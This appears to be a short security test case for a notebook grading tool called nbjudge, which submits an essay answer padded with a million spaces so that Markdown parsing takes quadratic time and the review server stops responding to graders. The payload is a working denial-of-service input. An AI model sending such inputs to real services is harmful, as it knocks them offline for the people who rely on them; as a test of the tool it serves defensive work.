"""An essay has a million blanks, which Markdown libraries scan again from each blank.

Success: `nbjudge review` does not serve the graders.
"""


def attack(submission):
    submission.answer("essay", "a" + " " * 1_000_000 + "b\n\n# a" + " " * 1_000_000 + "b")
